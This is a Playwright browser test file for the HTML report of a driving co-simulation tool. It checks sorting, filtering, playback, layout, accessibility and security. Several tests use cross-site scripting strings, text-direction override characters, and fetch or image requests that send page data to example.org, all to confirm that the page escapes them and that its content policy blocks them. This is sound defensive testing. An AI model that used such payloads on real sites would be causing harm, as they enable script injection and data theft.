"""The page of the report as people use it: in a browser."""

import json
import shutil
from dataclasses import replace

import pytest
from params import slow

from regents_cosim.cases.shipped import shipped
from regents_cosim.cases.suite import load_suite
from regents_cosim.evaluation.drives.driving import DriveResult
from regents_cosim.reports.crash_moments import braking_line, enters_lane
from regents_cosim.reports.page.html import html_page
from regents_cosim.reports.report import report_of
from regents_cosim.scenario.judgement import EDITION, Fault, Flaw, Judgement, Law, ReferenceDrive
from regents_cosim.scenario.scenario import Tracks

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install -e '.[dev]'")
BROWSER = next(filter(None, map(shutil.which, ("chromium", "google-chrome", "chromium-browser"))), None)
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(BROWSER is None, reason="no Chromium on PATH: apt-get install -y chromium"),
]

EMPTY = "\N{EN DASH}"
LAPTOP, PHONE = {"width": 1440, "height": 900}, {"width": 390, "height": 844}
HARMFUL = """<script>window.hurt = 1<img src=x onerror="window.hurt = 1"> & 'ü' #t=3"""  # as an id, so without a slash
TURNED = "\u202emi\u2066"  # marks that turn the direction of writing around
EVERYWHERE = HARMFUL + "</script></style></title>\u2028" + TURNED
CASES = load_suite(shipped("scenarios") / "quickstart")
CRASHES = [case for case in CASES if case.collision]

# The ratio of WCAG 2.1 between every visible text and the first opaque ground under it; links without a target are off.
CONTRAST = """() => {
  const parse = (text) => (text.match(/[\\d.]+/g) ?? []).map(Number);
  const linear = (v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
  const light = ([r, g, b]) => 0.2126 * linear(r / 255) + 0.7152 * linear(g / 255) + 0.0722 * linear(b / 255);
  const ground = (node) => {
    for (let at = node; at; at = at.parentElement) {
      const colour = parse(getComputedStyle(at).backgroundColor);
      if (colour.length === 3 || colour[3] === 1) return colour;
    }
    return [255, 255, 255];
  };
  const found = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const node = walker.currentNode.parentElement;
    const text = walker.currentNode.textContent.trim();
    if (!text || !node.checkVisibility() || node.closest("a:not([href]), script")) continue;
    const style = getComputedStyle(node);
    const [a, b] = [light(parse(style.color)), light(ground(node))];
    const large = parseFloat(style.fontSize) >= (Number(style.fontWeight) >= 700 ? 18.66 : 24);
    found.push([(Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05) / (large ? 3 : 4.5), text]);
  }
  return found;
}"""


def judged(case, number):
    """With a verdict: a careful driver avoids every other crash by a way that simply stays before the attack."""
    avoids, blamed = number % 2 == 0, ("ego", "adversary", "nobody")[number % 3]
    drives = (ReferenceDrive("careful", avoids, 1.0, 2.0),)
    verdict = Judgement((), Fault(blamed, "rule", "why"), Law((), ()), drives, edition=EDITION)
    way = Tracks(*(getattr(case.log, name)[:1] for name in ("x", "y", "yaw", "speed", "valid")))
    return replace(case, judgement=verdict, evasion=way if avoids else None)


def driven(case, crash):
    """A drive that ends as the case, or one in which the ego never leaves."""
    tracks = case.tracks
    if not crash:
        tracks = replace(
            tracks, **{n: _still(getattr(tracks, n), n) for n in ("x", "y", "speed")}, accel=None, curvature=None
        )
    return DriveResult(case.id, case.provenance.file, "x" if crash else None, score=1.0, completion=1.0), tracks


def _still(values, name):
    values = values.copy()
    values[0] = 0.0 if name == "speed" else values[0, 0] - 500.0
    return values


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as started:
        chromium = started.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """One report of a suite, one that compares two planners."""
    folder = tmp_path_factory.mktemp("report")
    cases = [judged(case, CRASHES.index(case)) if case in CRASHES else case for case in CASES]
    alone = next(k for k, case in enumerate(cases) if case.id == CRASHES[-1].id)
    cases[alone] = replace(cases[alone], attack=replace(cases[alone].attack, outcome="already_colliding"))
    cases[0] = replace(cases[0], id=HARMFUL)
    cases[1] = replace(cases[1], attack=replace(cases[1].attack, planner="mine"))
    (folder / "suite.html").write_text(html_page(report_of(cases, {})), "utf-8")
    some = CRASHES[:4]
    pair = {
        "old": [driven(c, k < 3) for k, c in enumerate(some)],
        "new": [driven(c, k > 0) for k, c in enumerate(some)],
    }
    (folder / "pair.html").write_text(html_page(report_of(some, pair)), "utf-8")
    (folder / "hostile.html").write_text(html_page(report_of([hostile(CRASHES[0])], {})), "utf-8")
    long = {f"company.planners.of_last_year:{name}": drives for name, drives in pair.items()}
    (folder / "long.html").write_text(html_page(report_of(some, long)), "utf-8")
    return folder


def hostile(case):
    """Whatever may be text is an attack on who reads it."""
    agents = tuple(replace(agent, id=f"{k:02}{HARMFUL}{TURNED}") for k, agent in enumerate(case.agents))
    names = {old.id: new.id for old, new in zip(case.agents, agents, strict=True)}
    hit = replace(case.collision, agent=names[case.collision.agent])
    attack = replace(
        case.attack,
        planner=f"exec:{EVERYWHERE}",
        method=EVERYWHERE,
        candidates=(EVERYWHERE,),
        settings={EVERYWHERE: EVERYWHERE},
        collision=hit,
        cost_history={EVERYWHERE: (1.0, 2.0)},
    )
    source = replace(case.provenance, file=EVERYWHERE, command=f"curl {EVERYWHERE}", versions={EVERYWHERE: EVERYWHERE})
    verdict = Judgement((Flaw.OFF_ROAD,), Fault("ego", EVERYWHERE, EVERYWHERE), edition=EDITION)
    found = {"attack": attack, "judgement": verdict, "evasion": None}
    return replace(case, agents=agents, provenance=source, **found, id=HARMFUL + TURNED)


class Visit:
    """A page and all that it asked for or complained about."""

    def __init__(self, browser, file, fragment="", **context):
        self.context = browser.new_context(**({"viewport": LAPTOP} | context))
        self.page = self.context.new_page()
        self.page.set_default_timeout(30_000)
        self.requests, self.failed, self.complaints = [], [], []
        self.page.on("requestfailed", lambda request: self.failed.append(request.url))
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.file = file.as_uri()
        self.page.goto(self.file + fragment)

    def clock(self):
        return float(self.page.inner_text("#clock").split()[0])

    def names(self):
        return self.page.locator("#cases tbody .case").all_inner_texts()

    def column(self, name):
        names = self.page.locator("#cases thead th").all_inner_texts()
        return self.page.locator(f"#cases tbody td:nth-child({names.index(name) + 1})").all_inner_texts()

    def wait(self, condition):
        """Playwright's own waiting needs eval in the page, which its content policy forbids."""
        for _ in range(100):
            if self.page.evaluate(condition):
                return
            self.page.wait_for_timeout(50)
        raise AssertionError(f"never came true: {condition}")

    def open_first(self):
        self.page.click("#cases tbody tr:first-child a")
        self.page.wait_for_selector("#case:not([hidden])")

    def drawn(self, canvas):
        """The picture, to compare."""
        return self.page.eval_on_selector(canvas, "canvas => canvas.toDataURL()")


@pytest.fixture
def visit(browser, files):
    """Opens a file; at the end nothing was asked of the network, and nothing went wrong."""
    made = []

    def go(name="suite", fragment="", **context):
        made.append(Visit(browser, files / f"{name}.html", fragment, **context))
        return made[-1]

    yield go
    for one in made:
        assert one.complaints == []
        assert all(url.startswith((one.file, "data:")) for url in one.requests)
        assert one.page.evaluate("window.hurt") is None
        one.context.close()


def test_the_list_shows_every_case_worst_first(visit):
    seen = visit()
    assert sorted(seen.names()) == sorted([HARMFUL, *(case.id for case in CASES[1:])])
    crashes = [text != "No collision" for text in seen.column("Result")]
    assert crashes == sorted(crashes, reverse=True)
    assert sum(crashes) == len(CRASHES)


def test_sorting(visit):
    seen = visit()
    head = seen.page.locator("#cases thead button", has_text="Impact")
    head.click()
    assert head.locator("..").get_attribute("aria-sort") == "descending"
    impacts = [float(text.split()[0]) for text in seen.column("Impact") if text != EMPTY]
    assert impacts == sorted(impacts, reverse=True)
    head.click()
    assert [float(text.split()[0]) for text in seen.column("Impact") if text != EMPTY] == impacts[::-1]
    assert seen.column("Impact")[-1] == EMPTY  # without a crash there is none
    head.click()
    assert head.locator("..").get_attribute("aria-sort") == "none"
    seen.page.select_option("#sort", "Impact")
    assert [float(text.split()[0]) for text in seen.column("Impact") if text != EMPTY] == impacts
    assert head.locator("..").get_attribute("aria-sort") == "descending"


def test_filtering(visit):
    seen = visit()
    seen.page.select_option("#filter-network", "merge")
    assert set(seen.column("Network")) == {"merge"}
    seen.page.select_option("#filter-network", "")
    collision = seen.page.locator("#filter-collision_type option").nth(1).inner_text()
    seen.page.select_option("#filter-collision_type", collision)
    assert set(seen.column("Result")) == {collision}
    seen.page.select_option("#filter-collision_type", "")
    seen.page.select_option("#filter-prevention", "preventable")
    assert set(seen.column("Preventable")) == {"preventable"}
    seen.page.select_option("#filter-prevention", "not preventable")
    assert set(seen.column("Preventable")) == {"not preventable"}
    seen.page.select_option("#filter-prevention", "")
    seen.page.select_option("#filter-fault", "planner at fault")
    assert set(seen.column("At fault")) == {"planner"}
    seen.page.select_option("#filter-fault", "")
    seen.page.select_option("#filter-planner", "mine")
    assert seen.names() == [CASES[1].id]
    seen.page.select_option("#filter-planner", "")
    seen.page.fill("#search", "ROUNDABOUT")
    assert all("roundabout" in name for name in seen.names())
    seen.page.fill("#search", "nobody")
    seen.page.click("#all")
    assert len(seen.names()) == len(CASES)


def test_a_permalink_opens_the_case_at_its_time(visit):
    first = visit()
    first.page.fill("#search", "window.hurt")
    first.open_first()
    first.page.keyboard.press("Home")
    first.page.keyboard.press("Shift+ArrowRight")
    first.wait("location.hash.endsWith('t=1.0')")
    again = visit(fragment="#" + first.page.url.partition("#")[2])
    again.page.wait_for_selector("#case:not([hidden])")
    assert again.page.inner_text("#case-title") == HARMFUL
    assert again.clock() == 1.0
    assert again.drawn("#scene") == first.drawn("#scene")


def test_the_player_plays_and_scrubs_and_the_plots_follow(visit):
    seen = visit()
    seen.open_first()
    page = seen.page
    assert seen.clock() > 0.0  # opens at the crash
    page.click("#play")
    seen.wait("parseFloat(document.querySelector('#clock').textContent) > 0.3")
    page.click("#play")
    stopped, scene, plot = seen.clock(), seen.drawn("#scene"), seen.drawn("#plot-speed")
    page.wait_for_timeout(150)
    assert seen.clock() == stopped
    page.fill("#time", "12")
    assert seen.clock() == 1.2
    assert seen.drawn("#scene") != scene
    assert seen.drawn("#plot-speed") != plot
    box = page.locator("#plot-gap").bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + box["width"] - 9, box["y"] + 40)
    assert seen.clock() == float(page.get_attribute("#time", "max")) / 10
    whole = seen.drawn("#scene")
    page.click("[data-layer=log]")
    assert seen.drawn("#scene") != whole
    page.click("#zoom-in")
    page.mouse.move(400, 500)
    page.mouse.down()
    page.mouse.move(460, 520)
    page.mouse.up()
    assert page.get_attribute("#follow", "aria-pressed") == "false"
    page.click("#follow")
    assert page.get_attribute("#follow", "aria-pressed") == "true"


def test_the_scene_shows_who_is_where(visit):
    """The camera follows the ego: it is in the middle, and at the crash the adversary and a mark as well."""
    seen = visit()
    seen.open_first()
    count = """name => {
      const canvas = document.querySelector("#scene"), style = getComputedStyle(document.documentElement);
      const [r, g, b] = style.getPropertyValue(name).match(/[0-9a-f]{2}/g).map((part) => parseInt(part, 16));
      const copy = new OffscreenCanvas(120, 120).getContext("2d");
      copy.drawImage(canvas, 60 - canvas.width / 2, 60 - canvas.height / 2);
      const { data } = copy.getImageData(0, 0, 120, 120);
      let found = 0;
      for (let k = 0; k < data.length; k += 4) found += data[k] === r && data[k + 1] === g && data[k + 2] === b;
      return found;
    }"""
    for layer in ("names", "trails", "log"):
        seen.page.click(f"[data-layer={layer}]")
    assert seen.page.evaluate(count, "--ego") > 100
    assert seen.page.evaluate(count, "--burst") > 20
    assert seen.page.evaluate(count, "--adversary") > 100
    seen.page.keyboard.press("Home")
    assert seen.page.evaluate(count, "--ego") > 100
    assert seen.page.evaluate(count, "--burst") == 0


def test_the_keyboard_alone_suffices(visit):
    seen = visit()
    page = seen.page
    names = seen.names()
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent") == names[0]:
            break
    page.keyboard.press("Enter")
    page.wait_for_selector("#case:not([hidden])")
    crash = seen.clock()
    for key, time in ((".", 0.1), (",", 0.0), ("ArrowLeft", -0.1), ("ArrowRight", 0.0), ("Shift+ArrowLeft", -1.0)):
        page.keyboard.press(key)
        assert seen.clock() == pytest.approx(crash + time), key
    page.keyboard.press("Home")
    assert seen.clock() == 0.0
    page.keyboard.press("Space")
    seen.wait("parseFloat(document.querySelector('#clock').textContent) > 0.1")
    page.keyboard.press("Space")
    before = seen.drawn("#scene")
    page.keyboard.press("+")
    assert seen.drawn("#scene") != before
    page.keyboard.press("]")
    seen.wait(f"document.querySelector('#case-title').textContent === {json.dumps(names[1])}")
    page.keyboard.press("Escape")
    page.wait_for_selector("#overview:not([hidden])")
    assert page.evaluate("document.activeElement.textContent") == names[1]


CLIPPED = """() => [...document.querySelectorAll(
    "html, table, td, th, section, figure, figcaption, .scroll, .change, .kind, dd, dt, p, li, button, h1, h2, pre"
  )].filter((node) => node.checkVisibility() && !node.closest(".hidden") && getComputedStyle(node).display !== "inline")
  .filter((node) => node.scrollWidth > node.clientWidth + 1)
  .map((node) => [node.tagName, node.className, node.scrollWidth, node.clientWidth, node.textContent.slice(0, 60)])"""


TWO_FRAMES = "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"


@pytest.mark.parametrize("name", [*map(slow, ("suite", "pair", "long")), "hostile"])
def test_nothing_is_clipped_and_nothing_scrolls_sideways(visit, name):
    seen = visit(name)
    for opens in (lambda: None, lambda: (seen.open_first(), seen.page.click("#settings-fold summary"))):
        opens()
        for width in (1280, 1200, 1000, 768, 560, 390):
            seen.page.set_viewport_size({"width": width, "height": 900})
            seen.page.evaluate(TWO_FRAMES)  # by then the page has heard of its new size
            assert seen.page.evaluate(CLIPPED) == [], width
            assert seen.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, width
        seen.page.set_viewport_size(LAPTOP)


def test_what_to_fix_comes_first(visit):
    """Crashes that need no attack, then telling ones by the planner's fault, then the other telling ones, the rest."""
    seen = visit()
    page = seen.page
    needs = page.evaluate("JSON.parse(document.querySelector('#page').textContent).rows.map((row) => row.need)")
    order = ["ordinary", "own_fault", "telling", "rest", None]
    assert needs == sorted(needs, key=order.index)
    assert set(needs) == set(order)
    blocks = page.locator(".todo ol > li")
    titles = [title.partition(" ")[0] for title in blocks.locator("h3").all_inner_texts()]
    assert titles == ["Crashes", "Telling", "Telling", "Other"]
    assert all(len(text) > 40 for text in blocks.locator(".advice").all_inner_texts())  # what to do about them
    assert blocks.first.locator("[data-case]").first.inner_text() == seen.names()[0]
    for block, need in zip(blocks.all(), order, strict=False):
        every = block.locator("h3 button")
        assert int(every.inner_text().split()[0]) == needs.count(need)
        every.click()
        assert len(seen.names()) == needs.count(need)
        every.click()
    blocks.nth(1).locator("h3 button").click()
    assert set(seen.column("At fault")) == {"planner"}
    assert set(seen.column("Telling")) == {"yes"}
    blocks.nth(1).locator("[data-case]").first.click()
    page.wait_for_selector("#case:not([hidden])")


def test_a_word_says_what_it_means(visit):
    seen = visit()
    page = seen.page
    word = page.locator(".score h2 .term", has_text="Telling crashes")
    tip = page.locator("#tip")
    assert not tip.is_visible()
    word.hover()
    assert "careful driver" in tip.inner_text()
    page.mouse.move(0, 0)
    page.locator("#search").focus()
    assert not tip.is_visible()
    word.focus()
    assert tip.is_visible()
    assert word.get_attribute("aria-describedby") == "tip"
    for width in (1200, 1000, 560):
        page.set_viewport_size({"width": width, "height": 900})
        # The page lays itself out again before its next frame.
        page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
        for one in page.locator(".term:visible, th button[data-tip]:visible").all():
            one.scroll_into_view_if_needed()
            one.focus()
            box = tip.bounding_box()
            assert box is not None
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= width


def test_no_word_is_broken_and_no_choice_is_cut_short(visit):
    """Names may be broken after their signs; words of ours are not broken, and a filter shows what it says."""
    broken = """() => {
      const found = [], walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      while (walker.nextNode()) {
        const node = walker.currentNode;
        if (!node.parentElement.checkVisibility() || node.parentElement.closest("script, code, pre, option")) continue;
        for (const { 0: word, index } of node.textContent.matchAll(/\\b[A-Za-z]{3,}\\b/g)) {
          const range = new Range();
          range.setStart(node, index);
          range.setEnd(node, index + word.length);
          const lines = new Set([...range.getClientRects()].map(({ top }) => Math.round(top)));
          if (lines.size > 1) found.push(word);
        }
      }
      return found;
    }"""
    cut = """() => [...document.querySelectorAll("select")].filter((one) => one.checkVisibility()).filter((one) => {
      const [style, pen] = [getComputedStyle(one), document.createElement("canvas").getContext("2d")];
      pen.font = style.font;
      const room = one.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight) - 16;
      return pen.measureText(one.selectedOptions[0].textContent).width > room;
    }).map((one) => one.selectedOptions[0].textContent)"""
    for name in ("suite", "pair", "long"):
        seen = visit(name)
        for width in (1200, 1000, 560):
            seen.page.set_viewport_size({"width": width, "height": 900})
            for sheet in ("list", "case"):
                if sheet == "case":
                    seen.open_first()
                assert seen.page.evaluate(broken) == [], (name, width, sheet)
                assert seen.page.evaluate(cut) == [], (name, width, sheet)
            seen.page.evaluate("location.hash = ''")
            seen.page.wait_for_selector("#overview:not([hidden])")


def test_what_got_worse_is_to_be_fixed_first(visit):
    seen = visit("pair")
    tags = [item.locator(".tag").count() for item in seen.page.locator(".todo ul li").all()]
    assert tags == sorted(tags, reverse=True)
    assert sum(tags) >= 1
    [broken] = [name for name, change in zip(seen.names(), seen.column("Change"), strict=True) if change == "broken"]
    assert seen.page.locator(".todo [data-case]").first.inner_text() == broken


def test_no_text_of_a_case_becomes_part_of_the_page(visit):
    seen = visit("hostile")
    page = seen.page
    page.wait_for_selector("#cases tbody tr")
    counts = [page.locator(tag).count() for tag in ("img", "style", "script:not([type])", "iframe, object, embed")]
    assert counts == [0, 1, 1, 0]
    seen.open_first()
    page.click("#settings-fold summary")
    assert page.locator("img").count() == 0
    text = page.evaluate("document.documentElement.textContent + document.title")
    assert not set(text) & set("\u2028\u202e\u2066")
    assert "\\u202emi\\u2066" in page.inner_text("#case-title")
    assert page.locator("#commands button").count() == 0  # nothing that a file says is handed out to be run


@pytest.mark.parametrize("harm", [
    "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hurt = 1'}))",
    slow("document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.hurt = 1\"></p>');"
         "document.body.lastChild.click()"),
    slow("document.body.append(Object.assign(document.createElement('img'), {src: 'https://example.org/secret'}))"),
    slow("fetch('https://example.org/' + document.title).catch(() => 0)"),
])  # fmt: skip
def test_the_page_s_own_policy_lets_nothing_else_run_or_leave(visit, harm):
    seen = visit()
    seen.page.evaluate(f"() => {{ {harm} }}")
    seen.page.wait_for_timeout(50)
    assert "Content Security Policy" in seen.complaints[0]
    assert seen.failed == [url for url in seen.requests if "example.org" in url]
    seen.complaints.clear()
    seen.requests.clear()


@pytest.mark.parametrize("scheme", ["light", slow("dark")])
@pytest.mark.parametrize("name", ["suite", slow("pair")])
def test_text_has_contrast(visit, scheme, name):
    seen = visit(name, color_scheme=scheme)
    texts = seen.page.evaluate(CONTRAST)
    seen.open_first()
    seen.page.click("#settings-fold summary")
    texts += seen.page.evaluate(CONTRAST)
    assert len(texts) > 80
    assert [(round(share, 2), text) for share, text in texts if share < 1.0] == []


def test_the_button_switches_between_light_and_dark(visit):
    seen = visit(color_scheme="light")
    seen.open_first()
    ground, scene = seen.page.evaluate("getComputedStyle(document.body).backgroundColor"), seen.drawn("#scene")
    seen.page.click("#theme")
    assert seen.page.evaluate("getComputedStyle(document.body).backgroundColor") != ground
    assert seen.drawn("#scene") != scene
    seen.page.click("#theme")
    assert seen.drawn("#scene") == scene


def test_a_phone_needs_no_sideways_scrolling(visit):
    seen = visit(viewport=PHONE, is_mobile=True, has_touch=True)
    wide = "document.documentElement.scrollWidth - innerWidth"
    assert seen.page.evaluate(wide) <= 0
    seen.page.tap("#cases tbody tr:first-child a")
    seen.page.wait_for_selector("#case:not([hidden])")
    assert seen.page.evaluate(wide) <= 0
    seen.page.tap("#play")
    seen.wait("parseFloat(document.querySelector('#clock').textContent) > 0.1")


def test_two_planners_side_by_side(visit):
    seen = visit("pair")
    assert seen.column("Change") == ["broken", "unchanged", "unchanged", "fixed"]
    assert seen.page.locator(".change b").all_inner_texts() == ["1", "1", "2"]
    seen.page.select_option("#filter-planner", "old crashes")
    assert "No collision" not in seen.column("old")
    seen.page.click(".change.fixed")
    [result] = seen.column("new")
    assert result == "No collision"
    assert seen.column("old") != ["No collision"]
    seen.open_first()
    assert seen.page.locator("#verdicts li").count() == 2
    numbers = json.loads(
        seen.page.evaluate("JSON.stringify([...document.querySelectorAll('#speed-now span')].map(s => s.textContent))")
    )
    assert [text.split()[0] for text in numbers if text] == ["old", "new", "adversary", "careful"]


def test_a_crash_says_how_both_drivers_brake_and_when_the_lane_is_entered(visit, files):
    case = next(case for case in CRASHES if case.evasion is not None and enters_lane(case) is not None)
    (files / "own.html").write_text(html_page(report_of([case], {})), "utf-8")
    seen = visit("own")
    seen.open_first()
    said = seen.page.inner_text("#verdicts .braking")
    assert said == braking_line(case, case.tracks, case.collision)
    assert seen.page.locator("#marks .entry").count() == 1
    assert "careful" in seen.page.inner_text("#speed-now")


def test_of_many_cases_the_first_lines_are_laid_out_and_more_when_asked_for(visit, files):
    many = [replace(CRASHES[0], id=f"case{number:03}") for number in range(450)]
    made = report_of(many, {}, tags={case.id: () for case in many})
    (files / "many.html").write_text(html_page(made), "utf-8")
    seen = visit("many")
    lines = seen.page.locator("#cases tbody tr")
    assert lines.count() == 200
    assert seen.page.inner_text("#more") == "Show 200 more of 250"
    seen.page.click("#more")
    assert (lines.count(), seen.page.inner_text("#more")) == (400, "Show 50 more of 50")
    seen.page.fill("#search", "case44")
    assert lines.count() == 10
    assert not seen.page.is_visible("#more")
    seen.page.fill("#search", "")
    seen.page.goto(f"{seen.page.url.partition('#')[0]}#case=case449")  # far below what is laid out
    seen.page.wait_for_selector("#case:not([hidden])")
    assert seen.page.inner_text("#position") == "450 of 450"
    seen.page.keyboard.press("Escape")
    seen.page.wait_for_selector("#overview:not([hidden])")
    assert seen.page.evaluate("document.activeElement.textContent") == "case449"
